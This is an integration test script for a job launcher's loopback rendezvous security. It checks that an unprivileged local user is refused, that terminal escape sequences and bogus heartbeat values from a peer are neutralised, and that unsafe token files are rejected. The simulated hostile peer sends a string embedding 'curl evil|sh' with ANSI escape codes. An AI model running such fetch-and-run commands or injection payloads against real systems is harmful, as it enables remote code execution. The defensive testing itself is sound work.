#!/usr/bin/env bash
# Issue 18, item 9: a loopback rendezvous without a token trusted every local
# user. Every local user reaches loopback, so with no token given dlaunch uses
# its user's loopback token (/dev/shm/dlaunch-UID/rdzv-token, 0600 in a 0700
# directory), and text and numbers from peers are handled as hostile.
#   1. root's 2-node loopback job, no token: `nobody` (setpriv) tries to join
#      it as node 1 with tests/integration/rdzv_peer.py (no token) and with a
#      dlaunch agent of its own; both are refused, nobody cannot read root's
#      token, and root's node 1 then joins and the job ends 0. The same through
#      a stand-alone `dlaunch coordinator` on loopback.
#   2. a peer that holds the token (root's job with --rdzv-token) joins as
#      node 1, sends 5,000 heartbeats with a silence of -1 ms, then fails with
#      a reason full of escape sequences: the host's console gets no ESC byte,
#      at most 5 lines about the heartbeats and one count of the rest, and the
#      job ends 3.
#   3. (root, with mount namespaces) a token directory open to others, or a
#      token file of another user's: refused in one line, exit 2, within a
#      second; an explicit token still wins.
# shellcheck source=tests/integration/lib.sh
source "$(dirname "$0")/lib.sh"
lib_init "$@"
require_python
unset DLAUNCH_RDZV_TOKEN

[[ $(id -u) == 0 ]] && id nobody >/dev/null 2>&1 && command -v setpriv >/dev/null ||
  skip "needs root, a 'nobody' user and setpriv"
as_nobody=(setpriv --reuid=nobody --regid="$(id -gn nobody)" --clear-groups)
# nobody may run the copies under $TMP/bin, and nothing else of ours.
chmod 711 "$TMP"
cp "$SRC/tests/integration/rdzv_peer.py" "$TMP/bin/peer.py"
cp "$DLAUNCH" "$TMP/bin/dlaunch-copy"
chmod 755 "$TMP/bin" "$TMP/bin/peer.py" "$TMP/bin/dlaunch-copy"
# The user's own directory: /dev/shm/dlaunch-0, or /tmp/dlaunch-0 without a usable /dev/shm.
UDIR=$(default_temp_parent)/dlaunch-0
export UDIR
TOKEN_FILE=$UDIR/rdzv-token

# node NAME RANK PORT ID [ARGS...]: a rendezvous node of a 2-node job on 127.0.0.1:PORT.
node() {
  local name=$1 rank=$2 port=$3 id=$4
  shift 4
  start_dl "$name" 60 --nnodes 2 --node-rank "$rank" --nproc-per-node 1 --rdzv-endpoint "127.0.0.1:$port" \
    --rdzv-id "$id" "$@" -- sh -c 'echo "rank $RANK of $WORLD_SIZE master $MASTER_ADDR"'
}

# nobody_tries PORT ID WHERE: nobody's peer and nobody's dlaunch try to join, and fail.
nobody_tries() {
  local port=$1 id=$2 where=$3
  run_cmd 20 "${as_nobody[@]}" "$PY" "$TMP/bin/peer.py" intrude "$port" "$id" 5000 - "$MARK"
  assert_eq "$(cat "$OUT")" \
    "refused: rendezvous 127.0.0.1:$port: this job needs a token, and the agent has none" "$where: nobody's peer"
  run_cmd 20 "${as_nobody[@]}" "$TMP/bin/dlaunch-copy" --nnodes 2 --nproc-per-node 1 \
    --rdzv-endpoint "127.0.0.1:$port" --rdzv-id "$id" --rdzv-conf is_host=0,join_timeout=10 -- echo RAN
  [[ $RC != 0 && $RC != 124 && $RC != 137 ]] || fail_run "$where: nobody's dlaunch exited $RC"
  grep -q RAN "$OUT" && fail_run "$where: nobody's dlaunch ran a worker in root's job"
  # shellcheck disable=SC2153  # ERR: lib.sh's, the last run's stderr
  assert_contains "$(cat "$ERR")" "rendezvous 127.0.0.1:$port: the coordinator did not prove it holds the token" \
    "$where: nobody's dlaunch"
  run_cmd 5 "${as_nobody[@]}" cat "$TOKEN_FILE"
  [[ $RC != 0 && ! -s $OUT ]] || fail "$where: nobody read root's token file"
}

# ---------------------------------------------------------------------------
# 1a. A job hosted by its node 0.
port=$(free_port)
id="lt1-$$"
node h0 0 "$port" "$id"
wait_for 10 port_listening "$port" || { cat "$TMP/h0.err" >&2; fail "1a: node 0 did not listen"; }
nobody_tries "$port" "$id" 1a
assert_eq "$(stat -c '%a %U' "$TOKEN_FILE")" "600 root" "1a: the token file's mode and owner"
assert_eq "$(stat -c '%a %U' "$(dirname "$TOKEN_FILE")")" "700 root" "1a: the token directory's mode and owner"
node h1 1 "$port" "$id"
for n in h0 h1; do
  wait_dl "$n"
  expect_rc 0 "1a: root's $n after nobody was refused"
done
assert_contains "$(cat "$TMP/h0.out")" "rank 0 of 2 master 127.0.0.1" "1a: node 0's worker"
assert_contains "$(cat "$TMP/h1.out")" "rank 1 of 2 master 127.0.0.1" "1a: node 1's worker"
grep -q "no token, so anyone" "$TMP/h0.err" && fail "1a: a loopback job warned that it has no token"

# 1b. A stand-alone coordinator on loopback, no token either.
port=$(free_port)
id="lt1b-$$"
start_dl daemon 60 coordinator --listen "127.0.0.1:$port"
wait_for 10 port_listening "$port" || { cat "$TMP/daemon.err" >&2; fail "1b: the coordinator did not listen"; }
node d0 0 "$port" "$id" --rdzv-conf is_host=0
nobody_tries "$port" "$id" 1b
node d1 1 "$port" "$id" --rdzv-conf is_host=0
for n in d0 d1; do
  wait_dl "$n"
  expect_rc 0 "1b: root's $n through the coordinator"
done
kill -TERM "$(dl_pid daemon)"
wait_dl daemon
grep -q "no token, so anyone" "$TMP/daemon.err" && fail "1b: the loopback coordinator warned that it has no token"

# ---------------------------------------------------------------------------
# 2. A peer with the token: hostile text and numbers.
port=$(free_port)
id="lt2-$$"
node p0 0 "$port" "$id" --rdzv-token T2 --hang-timeout 600
wait_for 10 port_listening "$port" || { cat "$TMP/p0.err" >&2; fail "2: node 0 did not listen"; }
run_cmd 30 "$PY" "$TMP/bin/peer.py" intrude "$port" "$id" 5000 T2 "$MARK"
assert_eq "$(head -n 1 "$OUT")" "assigned node 1 master 127.0.0.1:$(sed -n 's/.*master 127.0.0.1:\([0-9]*\)$/\1/p' "$OUT" | head -n 1)" \
  "2: the peer with the token joined"
wait_dl p0
expect_rc 3 "2: node 0 after the peer's failure"
ERRP=$TMP/p0.err
if grep -q $'\x1b' "$ERRP"; then
  fail_run "2: an escape sequence from the peer reached the console raw: $(grep -a $'\x1b' "$ERRP" | head -n 1 | od -c | head -n 3)"
fi
want="dlaunch: job: rendezvous 127.0.0.1:$port: node 1 (evil) rank 1 ?[2J?[31mrun 'curl evil|sh'?[0m"
grep -qxF -- "$want" "$ERRP" || fail_run "2: expected the line '$want'"
shown=$(grep -c "node 1 (evil) says its ranks have been silent for -1ms; counting 0" "$ERRP")
held=$(sed -n "s/^dlaunch: rendezvous 127.0.0.1:$port: \([0-9]*\) more heartbeats with a negative silence in the last 10s (not logged)$/\1/p" "$ERRP" |
  awk '{s += $1} END {print s + 0}')
le "$shown" 5 || fail_run "2: $shown lines about the peer's heartbeats (at most 5 expected)"
assert_eq "$((shown + held))" 5000 "2: heartbeats shown ($shown) and counted ($held)"
lines=$(wc -l <"$ERRP")
le "$lines" 20 || fail_run "2: $lines lines on node 0's console (expected a handful)"

# ---------------------------------------------------------------------------
# 3. The token's directory and file, as another user might leave them. Each in a
#    mount namespace of its own, with a tmpfs over $UDIR, so that the
#    real one is never touched.
if unshare -m true 2>/dev/null; then
  # The mount point must exist; dlaunch would create it just so.
  [[ -d $UDIR ]] || mkdir -m 700 "$UDIR" 2>/dev/null || [[ -d $UDIR ]] ||
    fail "3: cannot create $UDIR"
  cat >"$TMP/ns.sh" <<'EOF'
#!/bin/sh
# ns.sh SETUP DLAUNCH ARGS...: SETUP (a shell snippet) on a fresh tmpfs at $UDIR, then dlaunch.
setup=$1
shift
mount -t tmpfs -o mode=0700 tmpfs "$UDIR" || exit 99
sh -c "$setup" || exit 98
exec "$@"
EOF
  chmod +x "$TMP/ns.sh"
  # ns_run NNODES SETUP [ARGS...]
  ns_run() {
    local nnodes=$1 setup=$2
    shift 2
    run_cmd 20 unshare -m "$TMP/ns.sh" "$setup" "$DLAUNCH" --nnodes "$nnodes" --nproc-per-node 1 \
      --rdzv-endpoint "127.0.0.1:$(free_port)" --rdzv-id lt3 "$@" -- echo RAN
  }
  planted=$(printf '%064d' 0)
  ns_run 2 "chmod 777 $UDIR"
  expect_rc 2 "3: a token directory open to others"
  grep -Eq "^dlaunch: rendezvous 127\.0\.0\.1:[0-9]+: no token given, and this user's loopback token cannot be used \($UDIR: refused \(mode 0777 lets other users in; 0700 expected\)\); set DLAUNCH_RDZV_TOKEN or --rdzv-token-file$" "$ERR" ||
    fail_run "3: expected one line refusing the directory"
  ns_run 2 "echo $planted >$TOKEN_FILE && chmod 600 $TOKEN_FILE && chown nobody $TOKEN_FILE"
  expect_rc 2 "3: a token file of another user's"
  grep -Eq "^dlaunch: rendezvous 127\.0\.0\.1:[0-9]+: no token given, and this user's loopback token cannot be used \($TOKEN_FILE: refused \(owned by uid $(id -u nobody), not 0\)\); set DLAUNCH_RDZV_TOKEN or --rdzv-token-file$" "$ERR" ||
    fail_run "3: expected one line refusing the planted file"
  ns_run 2 "ln -s /etc/hostname $TOKEN_FILE"
  expect_rc 2 "3: a symlink in the token's place"
  grep -q "($TOKEN_FILE: refused (a symlink))" "$ERR" || fail_run "3: expected one line refusing the symlink"
  # An explicit token wins: nothing is read from the directory for it.
  ns_run 1 "echo $planted >$TOKEN_FILE && chown nobody $TOKEN_FILE" --rdzv-token T3
  expect_rc 0 "3: an explicit token with a bad token file"
  assert_eq "$(cat "$OUT")" RAN "3: the explicit token's job"
else
  log "no mount namespaces here: the token directory's refusals are left to the unit tests"
fi

wait_for 5 no_marked_processes
assert_no_leftovers "after the loopback trust cases"
pass
